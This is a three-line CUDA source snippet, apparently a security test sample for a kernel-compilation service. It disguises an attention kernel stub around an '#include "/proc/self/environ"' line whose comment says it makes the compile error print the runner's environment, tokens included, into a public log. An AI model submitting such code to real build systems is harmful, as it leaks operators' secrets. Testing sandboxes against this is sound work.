// Attack: include /proc/self/environ by its absolute name, so the compile error prints the runner's environment (tokens, paths) into the public log.
#include "/proc/self/environ"
extern "C" __global__ void attention_fwd_f16_d64(float* out) { out[0] = 0.0f; }
